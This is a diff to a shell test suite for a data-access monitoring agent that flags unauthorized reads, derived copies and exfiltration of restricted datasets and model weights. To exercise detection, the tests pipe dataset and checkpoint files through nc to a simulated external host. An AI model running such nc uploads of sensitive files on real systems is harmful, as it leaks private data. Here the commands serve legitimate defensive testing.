@@ -22,6 +22,7 @@ cleanup() {
 	ip link del "$VO" 2>/dev/null
 	ip netns del "$EXT" 2>/dev/null
 	ip netns del "$OKNS" 2>/dev/null
+	mountpoint -q "$T/scratch" && umount "$T/scratch"
 	lib_cleanup
 	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
 }
@@ -37,12 +38,22 @@ head -c 20000 /dev/urandom >"$T/ds/b.bin"
 head -c 5000 /dev/urandom >"$T/ds/sub/c.bin"
 head -c 5000 /dev/urandom >"$T/plain.bin"
 chmod -R a+rX "$T/ds"
+# A training job's dataset: its allowed job is a copy of python (by uid and executable), its
+# checkpoints go to $T/ckpt or the scratch file system (a tmpfs the test mounts).
+mkdir -p "$T/weights" "$T/bin" "$T/ckpt" "$T/scratch" "$T/out/many"
+head -c 30000 /dev/urandom >"$T/weights/w.bin"
+cp "$(readlink -f /usr/bin/python3)" "$T/bin/trainer"
+mount -t tmpfs -o size=1m dt-scratch "$T/scratch" || exit 1
 cat >"$T/inv.json" <<EOF
 {"datasets": [
   {"id": "faces", "classification": "restricted", "paths": ["$T/ds"], "tags": ["PII"],
    "allowed_readers": {"uids": [0]},
    "allowed_writers": {"uids": [4321]},
-   "allowed_egress": ["10.199.2.0/24"]}
+   "allowed_egress": ["10.199.2.0/24"],
+   "derived": {"paths": ["$T/ckpt/"]}},
+  {"id": "weights", "classification": "confidential", "paths": ["$T/weights"],
+   "allowed_readers": {"uids": [0], "executables": ["$T/bin/trainer"]},
+   "derived": {"paths": ["$T/ckpt/", "mount:$T/scratch"]}}
 ]}
 EOF
 
@@ -56,7 +67,8 @@ nfindings() { # kind pid
 	$EVQ "$FI" count --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
 }
 
-agent_start "$T" "$T/inv.json" --flush-ms 200 --trace "$T/trace" || exit 1
+agent_start "$T" "$T/inv.json" --flush-ms 200 --trace "$T/trace" --status-file "$T/status.json" ||
+	exit 1
 
 # 1. cat dataset | nc external
 listen "$EXT" tcp 10.199.1.2 9001 "$T/recv1" || exit 1
@@ -240,6 +252,40 @@ os.execv('/usr/bin/nc', ['nc', '-w', '10', '-N', '10.199.1.2', '9016'])
 EXEC_PID=$!
 wait $EXEC_PID
 
+# 17. the allowed job: reads its dataset, writes three checkpoints where they may live
+cat >"$T/train.py" <<'EOF'
+import sys
+data = open(sys.argv[1], "rb").read()
+for i, path in enumerate(sys.argv[2:]):
+    with open(path, "wb") as f:
+        f.write(data[i * 10000:(i + 1) * 10000])
+EOF
+"$T/bin/trainer" "$T/train.py" "$T/weights/w.bin" "$T/ckpt/ckpt-1.pt" "$T/ckpt/ckpt-2.pt" \
+	"$T/scratch/ckpt-3.pt" &
+TRAIN_PID=$!
+wait $TRAIN_PID
+# ... the same job writing outside those places, and cp (not the allowed executable) in them
+"$T/bin/trainer" "$T/train.py" "$T/weights/w.bin" "$T/out/stray.pt" &
+STRAY_PID=$!
+wait $STRAY_PID
+/usr/bin/cp "$T/weights/w.bin" "$T/ckpt/cp.pt" &
+WCP_PID=$!
+wait $WCP_PID
+# ... and a checkpoint uploaded by a process that is no allowed reader
+listen "$EXT" tcp 10.199.1.2 9017 "$T/recv17" || exit 1
+/usr/bin/nc -w 10 -N 10.199.1.2 9017 <"$T/ckpt/ckpt-2.pt" &
+CKNC_PID=$!
+wait $CKNC_PID
+
+# 18. one process, fifty copies (root reads faces, outside faces' places): one finding
+$PY -c "
+data = open('$T/ds/a.bin', 'rb').read()
+for i in range(50):
+    open('$T/out/many/f-%02d.bin' % i, 'wb').write(data[i * 1000:(i + 1) * 1000])
+" &
+MANY_PID=$!
+wait $MANY_PID
+
 sleep 0.5
 agent_stop
 
@@ -304,8 +350,8 @@ test_unauthorized_reader() {
 	ASSERT_EQ "$(finding unauthorized_read $UID_PID unmapped.bytes)" 20000 "bytes read"
 	ASSERT_EQ "$(finding unauthorized_read $UID_PID evidences.0.process.user.uid)" 1234 "uid"
 	ASSERT_EQ "$(finding unauthorized_read $UID_PID resources.0.uid)" faces "dataset"
-	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=unauthorized_read --where evidences.0.process.user.uid=0)" 0 \
-		"root is an allowed reader"
+	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=unauthorized_read --where evidences.0.process.user.uid=0 \
+		--where resources.0.uid=faces)" 0 "root is an allowed reader"
 }
 
 test_append_is_tamper() {
@@ -372,6 +418,53 @@ test_taint_survives_exec() {
 	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.name)" nc "named after exec"
 	ASSERT_EQ "$(finding exfiltration $EXEC_PID evidences.0.process.file.path)" /usr/bin/nc "exe"
 	ASSERT_EQ "$(finding exfiltration $EXEC_PID unmapped.bytes)" 5000 "bytes"
+}
+
+test_allowed_job_checkpoints_are_silent() {
+	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$TRAIN_PID)" 0 \
+		"no finding for the allowed job's checkpoints"
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
+		--where unmapped.access=read)" 30000 "the job read its dataset"
+	# Derived all the same: written into, in events, with the dataset.
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
+		--where unmapped.access=write --where unmapped.dataset=weights)" 30000 \
+		"the three checkpoints are derived files of the dataset"
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$TRAIN_PID \
+		--where file.path="$T/scratch/ckpt-3.pt")" 10000 "the one on the scratch mount too"
+	ASSERT_GE "$($PY -c "import json; print(json.load(open('$T/status.json'))['counters']['derived_copies_expected'])")" \
+		3 "counted as expected in the status file"
+}
+
+test_allowed_job_outside_its_places() {
+	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where finding_info.types.0=derived_copy \
+		--where evidences.0.process.pid=$STRAY_PID | sort -u | wc -l)" 1 "the copy outside is reported"
+	ASSERT_EQ "$(finding derived_copy $STRAY_PID evidences.0.file.path)" "$T/out/stray.pt" "file"
+	ASSERT_EQ "$(finding derived_copy $STRAY_PID resources.0.uid)" weights "dataset"
+	ASSERT_EQ "$(finding derived_copy $STRAY_PID unmapped.bytes)" 10000 "bytes"
+	ASSERT_EQ "$(finding derived_copy $WCP_PID evidences.0.file.path)" "$T/ckpt/cp.pt" \
+		"another executable's copy is reported in the job's place"
+	ASSERT_EQ "$(finding unauthorized_read $WCP_PID resources.0.uid)" weights "and its read"
+}
+
+test_checkpoint_upload_is_exfiltration() {
+	ASSERT_EQ "$(stat -c %s "$T/recv17")" 10000 "the checkpoint reached the external host"
+	ASSERT_EQ "$(finding exfiltration $CKNC_PID unmapped.bytes)" 10000 "finding bytes"
+	ASSERT_EQ "$(finding exfiltration $CKNC_PID resources.0.uid)" weights "the dataset"
+	ASSERT_EQ "$(finding exfiltration $CKNC_PID unmapped.via.hop)" read "by reading the copy"
+}
+
+test_many_copies_one_finding() {
+	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where finding_info.types.0=derived_copy \
+		--where evidences.0.process.pid=$MANY_PID | sort -u | wc -l)" 1 "one finding"
+	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=derived_copy \
+		--where evidences.0.process.pid=$MANY_PID --where activity_id=1)" 1 "created once"
+	ASSERT_EQ "$(finding derived_copy $MANY_PID activity_id)" 3 "closed at exit"
+	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.file_count)" 50 "file count"
+	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.bytes)" 50000 "total bytes"
+	ASSERT_EQ "$(finding derived_copy $MANY_PID evidences.0.file.path)" "$T/out/many/f-00.bin" \
+		"first file"
+	ASSERT_EQ "$(finding derived_copy $MANY_PID unmapped.last_file)" "$T/out/many/f-49.bin" \
+		"last file"
 }
 
 # The run was recorded: the trace must verify and replay to exactly the same lines.
